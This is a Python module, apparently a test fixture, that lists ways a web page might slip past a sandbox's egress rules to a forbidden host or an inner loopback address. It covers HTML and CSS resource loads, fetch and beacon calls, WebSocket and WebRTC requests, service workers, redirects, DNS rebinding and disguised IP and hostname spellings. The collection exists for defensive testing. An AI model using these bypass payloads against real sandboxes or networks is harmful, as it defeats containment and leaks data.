"""The ways a page may try to reach where it may not: name -> page, headers, further answers.

In all texts `$OUT` stands for the address of a site that the task does not allow, `$HOST` for its
host with port, `$PORT` for the port, `$HERE` for the address of the vector's own pages. A canary
listens on `$PORT` of every loopback address: whatever reaches it leaks.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

HTML = "text/html; charset=utf-8"
SCRIPT = "text/javascript"


@dataclass(frozen=True, slots=True, kw_only=True)
class Answer:
    """What the allowed site answers."""

    body: str = ""
    kind: str = HTML
    status: int = 200
    headers: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    """One way out: what is opened first, what the site answers below `$HERE/`."""

    name: str
    answers: Mapping[str, Answer]
    start: str = "$HERE/"
    rebinds: bool = False
    """Whether the first page lies on `rebind.test:$PORT`, a name that then turns inwards."""


def vectors() -> list[Vector]:
    """Return all vectors; names are unique."""
    return [
        *(Vector(name=name, answers={"": Answer(body=body)}) for name, body in _PAGES.items()),
        *(_scripted(name, script) for name, script in _SCRIPTS.items()),
        *(_scripted(name, _visit(url)) for name, url in _WRITINGS.items()),
        *(Vector(name=name, answers=answers) for name, answers in _ANSWERS.items()),
        *(Vector(name=name, answers={}, start=url) for name, url in _TYPED.items()),
        *(_redirects()),
        Vector(
            name="rebinding: the allowed name turns to an inner address",
            start="http://rebind.test:$PORT/",
            answers={"": Answer(body=_script(_AGAIN))},
            rebinds=True,
        ),
    ]


def _script(text: str) -> str:
    return f"<!doctype html><title>v</title><body><script>{text}</script>"


def _scripted(name: str, script: str) -> Vector:
    return Vector(name=name, answers={"": Answer(body=_script(script))})


def _visit(url: str) -> str:
    return f"fetch({url!r}, {{mode: 'no-cors'}}).catch(() => 0); new Image().src = {url!r} + '?i';"


def _redirects() -> list[Vector]:
    """Every status that redirects, of the page itself, a picture, a request, a worker's script."""
    found = []
    for status in (301, 302, 303, 307, 308):
        away = Answer(status=status, headers={"Location": "$OUT/redirected"})
        found.append(Vector(name=f"redirect {status} of the page", answers={"": away}))
        page = Answer(body=_script("fetch('away', {method: 'POST', body: 'x'}).catch(() => 0)"))
        found.append(Vector(name=f"redirect {status} of a post", answers={"": page, "away": away}))
    chain = Answer(status=302, headers={"Location": "away"})
    away = Answer(status=302, headers={"Location": "$OUT/redirected"})
    page = Answer(body="<img src=chain>")
    found.append(
        Vector(
            name="redirects in a chain of a picture",
            answers={"": page, "chain": chain, "away": away},
        )
    )
    return found


_PAGES = {
    "picture": "<img src=$OUT/x.png>",
    "picture by srcset": "<img srcset='$OUT/x.png 1x, $OUT/y.png 2x'>",
    "script": "<script src=$OUT/x.js></script>",
    "module script": "<script type=module src=$OUT/x.mjs></script>",
    "module preload": "<link rel=modulepreload href=$OUT/x.mjs>",
    "style sheet": "<link rel=stylesheet href=$OUT/x.css>",
    "css import": "<style>@import '$OUT/x.css';</style>",
    "css picture": "<div style='background:url($OUT/x.png);width:9px;height:9px'>x</div>",
    "css attribute selector": "<style>input[value^=a]{background:url($OUT/a)}</style>"
    "<input value=abc>",
    "font": "<style>@font-face{font-family:f;src:url($OUT/x.woff2)}p{font-family:f}</style><p>x",
    "video": "<video src=$OUT/x.mp4 preload=auto></video>",
    "video poster": "<video poster=$OUT/x.png></video>",
    "audio": "<audio src=$OUT/x.mp3 preload=auto></audio>",
    "frame": "<iframe src=$OUT/></iframe>",
    "sandboxed frame": "<iframe sandbox=allow-scripts src=$OUT/></iframe>",
    "frame of srcdoc": "<iframe srcdoc='<img src=$OUT/x.png>'></iframe>",
    "frame of data:": "<iframe src=\"data:text/html,<img src='$OUT/x.png'>\"></iframe>",
    "object": "<object data=$OUT/x.svg type=image/svg+xml></object>",
    "embed": "<embed src=$OUT/x.svg type=image/svg+xml>",
    "svg image": "<svg><image href=$OUT/x.png width=9 height=9 /></svg>",
    "input image": "<input type=image src=$OUT/x.png>",
    "preload": "<link rel=preload as=image href=$OUT/x.png>",
    "prefetch": "<link rel=prefetch href=$OUT/x>",
    "preconnect": "<link rel=preconnect href=$OUT>",
    "prerender": "<link rel=prerender href=$OUT/x>",
    "favicon": "<link rel=icon href=$OUT/favicon.ico>",
    "manifest": "<link rel=manifest href=$OUT/m.json>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=$OUT/'>",
    "base address": "<base href=$OUT/><img src=x.png>",
    "speculation rules: prefetch": '<script type=speculationrules>{"prefetch":[{"source":"list",'
    '"urls":["$OUT/x"],"eagerness":"immediate"}]}</script>',
    "speculation rules: prerender": '<script type=speculationrules>{"prerender":[{"source":"list",'
    '"urls":["$OUT/x"],"eagerness":"immediate"}]}</script>',
    "policy report (meta refused, header below)": "<object data=data:text/html,x></object>"
    "<iframe srcdoc='<script src=$OUT/late.js><\\/script>'></iframe>",
}

_SCRIPTS = {
    "location": "location = '$OUT/'",
    "location with the allowed name as user": "location = 'http://shop.test@$HOST/'",
    "navigation api": "navigation.navigate('$OUT/')",
    "link clicked": "document.body.innerHTML = '<a id=a href=$OUT/>x</a>'; a.click()",
    "link with download": "document.body.innerHTML = '<a id=a download href=$OUT/x.zip>x</a>';"
    "a.click()",
    "link's ping": "document.body.innerHTML = '<a id=a href=#x ping=$OUT/ping>x</a>'; a.click()",
    "form get": "document.body.innerHTML = '<form id=f action=$OUT/><input name=q></form>';"
    "f.submit()",
    "form post": "document.body.innerHTML = '<form id=f method=post action=$OUT/></form>';"
    "f.submit()",
    "form post into a frame": "document.body.innerHTML = '<iframe name=i></iframe><form id=f "
    "method=post target=i action=$OUT/></form>'; f.submit()",
    "javascript: address": 'document.body.innerHTML = `<iframe src="javascript:'
    "top.location='$OUT/'\"></iframe>`",
    "new window": "window.open('$OUT/')",
    "new window without opener": "window.open('$OUT/', '_blank', 'noopener')",
    "blank window written": "const w = window.open('about:blank');"
    "w.document.write('<img src=$OUT/x.png>')",
    "blob: page": "const b = new Blob(['<img src=$OUT/x.png>'], {type: 'text/html'});"
    "document.body.append(Object.assign(document.createElement('iframe'),"
    "{src: URL.createObjectURL(b)}))",
    "document.write": "document.write('<img src=$OUT/x.png>')",
    "fetch": "fetch('$OUT/', {mode: 'no-cors'}).catch(() => 0)",
    "fetch with preflight": "fetch('$OUT/', {method: 'PUT', headers: {x: '1'}}).catch(() => 0)",
    "fetch kept alive when leaving": "addEventListener('pagehide', () => fetch('$OUT/', {mode:"
    "'no-cors', keepalive: true, method: 'POST', body: 'x'}));"
    "setTimeout(() => { location = 'about:blank' }, 100)",
    "fetch of TLS": "fetch('https://$HOST/', {mode: 'no-cors'}).catch(() => 0)",
    "fetch later": "fetchLater('$OUT/', {activateAfter: 0, method: 'GET'})",
    "xhr": "const r = new XMLHttpRequest(); r.open('GET', '$OUT/'); r.send()",
    "beacon": "navigator.sendBeacon('$OUT/', 'x')",
    "beacon when leaving": "addEventListener('pagehide', () => navigator.sendBeacon('$OUT/', 'x'));"
    "setTimeout(() => { location = 'about:blank' }, 100)",
    "event source": "new EventSource('$OUT/')",
    "web socket": "new WebSocket('ws://$HOST/')",
    "web socket over TLS": "new WebSocket('wss://$HOST/')",
    "web socket in a worker": "new Worker(URL.createObjectURL(new Blob(["
    "\"new WebSocket('ws://$HOST/')\"])))",
    "dynamic import": "import('$OUT/x.mjs').catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('$OUT/', {mode: 'no-cors'})\"])))",
    "worker's imported script": "new Worker(URL.createObjectURL(new Blob(["
    "\"importScripts('$OUT/x.js')\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob(["
    "\"fetch('$OUT/', {mode: 'no-cors'})\"])))",
    "worklet": "CSS.paintWorklet.addModule('$OUT/x.js').catch(() => 0)",
    "WebRTC STUN": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.3:$PORT'"
    "}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "WebRTC STUN by name": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:$HOST'}]});"
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "WebRTC TURN over TCP": "const c = new RTCPeerConnection({iceTransportPolicy: 'relay', "
    "iceServers: [{urls: 'turn:127.0.0.3:$PORT?transport=tcp', username: 'u', credential: 'p'}]});"
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "WebRTC peer": "const c = new RTCPeerConnection(); c.createDataChannel('x');"
    "c.createOffer().then(o => c.setLocalDescription(o)).then(() => c.setRemoteDescription({type:"
    "'answer', sdp: c.localDescription.sdp.replace('a=setup:actpass', 'a=setup:active')"
    ".replace(/a=candidate.*\\r\\n/g, '') + 'a=candidate:1 1 udp 2113937151 127.0.0.3 $PORT typ "
    "host\\r\\n'})).catch(() => 0)",
    "WebTransport": "new WebTransport('https://127.0.0.3:$PORT/').ready.catch(() => 0)",
}

_WRITINGS = {
    "address: inner, plain": "http://127.0.0.2:$PORT/",
    "address: inner, decimal": "http://2130706434:$PORT/",
    "address: inner, hexadecimal": "http://0x7f000002:$PORT/",
    "address: inner, octal": "http://0177.0.0.02:$PORT/",
    "address: inner, short": "http://127.2:$PORT/",
    "address: inner, per cent": "http://%31%32%37.0.0.2:$PORT/",
    "address: inner, full-width": "http://１２７。０。０。２:$PORT/",
    "address: IPv6 loopback": "http://[::1]:$PORT/",
    "address: IPv4 in IPv6": "http://[::ffff:127.0.0.2]:$PORT/",
    "address: IPv4 in IPv6, hexadecimal": "http://[::ffff:7f00:2]:$PORT/",
    "address: unspecified": "http://0.0.0.0:$PORT/",
    "address: localhost": "http://localhost:$PORT/",
    "address: below localhost": "http://x.localhost:$PORT/",
    "address: allowed host, other port": "http://127.0.0.1:$PORT/",
    "name: allowed name below a foreign one": "http://shop.test.evil.test:$PORT/",
    "name: foreign name ends like the allowed": "http://notshop.test:$PORT/",
    "name: final dot": "http://evil.test.:$PORT/",
    "name: backslashes": "http:\\\\$HOST/",
    "name: Cyrillic letters": "http://ѕhop.test:$PORT/",
    "name: inner name": "http://inner.test:$PORT/",
    "name: no scheme": "//$HOST/",
    "name: tab and newline inside": "ht\ttp://ev\nil.test:$PORT/",
}

_TYPED = {
    "typed: plain": "$OUT/",
    "typed: TLS": "https://$HOST/",
    "typed: view-source": "view-source:$OUT/",
    "typed: decimal": "http://2130706434:$PORT/",
    "typed: with a user": "http://shop.test:80@$HOST/",
    "typed: data: page": "data:text/html,<img src='$OUT/x.png'>",
    "typed: ftp": "ftp://$HOST/",
    "typed: blob: of a foreign origin": "blob:$OUT/1234",
    "typed: filesystem": "filesystem:$OUT/temporary/x",
}

_WORKER = (
    "self.addEventListener('install', e => e.waitUntil(self.skipWaiting()));"
    "self.addEventListener('activate', e => e.waitUntil(fetch('$OUT/', {mode: 'no-cors'})"
    ".catch(() => 0)));"
)
_REGISTERED = Answer(body=_script("navigator.serviceWorker.register('worker.js')"))

_ANSWERS: Mapping[str, Mapping[str, Answer]] = {
    "refresh header": {"": Answer(headers={"Refresh": "0;url=$OUT/"})},
    "link header: preload": {
        "": Answer(body="x", headers={"Link": "<$OUT/x.css>; rel=preload; as=style"})
    },
    "link header: preconnect": {"": Answer(body="x", headers={"Link": "<$OUT>; rel=preconnect"})},
    "link header: style sheet": {
        "": Answer(body="x", headers={"Link": "<$OUT/x.css>; rel=stylesheet"})
    },
    "policy report": {
        "": Answer(
            body="<script>1</script>",
            headers={"Content-Security-Policy": "script-src 'none'; report-uri $OUT/report"},
        )
    },
    "policy report by the reporting api": {
        "": Answer(
            body="<script>1</script>",
            headers={
                "Content-Security-Policy": "script-src 'none'; report-to away",
                "Reporting-Endpoints": 'away="$OUT/report"',
            },
        )
    },
    "service worker's request": {"": _REGISTERED, "worker.js": Answer(body=_WORKER, kind=SCRIPT)},
    "service worker's imported script": {
        "": _REGISTERED,
        "worker.js": Answer(body="importScripts('$OUT/x.js')", kind=SCRIPT),
    },
    "service worker's web socket": {
        "": _REGISTERED,
        "worker.js": Answer(body="new WebSocket('ws://$HOST/')", kind=SCRIPT),
    },
    "service worker answers with a redirect": {
        "": Answer(
            body=_script(
                "navigator.serviceWorker.register('worker.js'); navigator.serviceWorker.ready"
                ".then(() => new Promise(r => setTimeout(r, 200))).then(() => fetch('x'))"
            )
        ),
        "worker.js": Answer(
            body="self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));"
            "self.addEventListener('fetch', e => e.respondWith(fetch('$OUT/', {mode:'no-cors'})))",
            kind=SCRIPT,
        ),
    },
    "worker script that redirects": {
        "": Answer(body=_script("new Worker('away.js')")),
        "away.js": Answer(status=302, headers={"Location": "$OUT/x.js"}),
    },
    "event stream that redirects": {
        "": Answer(body=_script("new EventSource('away')")),
        "away": Answer(status=302, headers={"Location": "$OUT/"}),
    },
    "frame that redirects": {
        "": Answer(body="<iframe src=away></iframe>"),
        "away": Answer(status=302, headers={"Location": "$OUT/"}),
    },
    "video that redirects": {
        "": Answer(body="<video src=away preload=auto></video>"),
        "away": Answer(status=302, headers={"Location": "$OUT/x.mp4"}),
    },
    "redirect to an inner address": {
        "": Answer(body="<img src=away>"),
        "away": Answer(status=302, headers={"Location": "http://127.0.0.2:$PORT/"}),
    },
    "view transition between pages": {
        "": Answer(
            body="<style>@view-transition{navigation:auto}</style><script>setTimeout(() => "
            "{ location = 'away' }, 100)</script>"
        ),
        "away": Answer(status=302, headers={"Location": "$OUT/"}),
    },
}

_AGAIN = (
    "setTimeout(() => fetch('/again').catch(() => 0), 100);setTimeout(() => location.reload(), 400)"
)
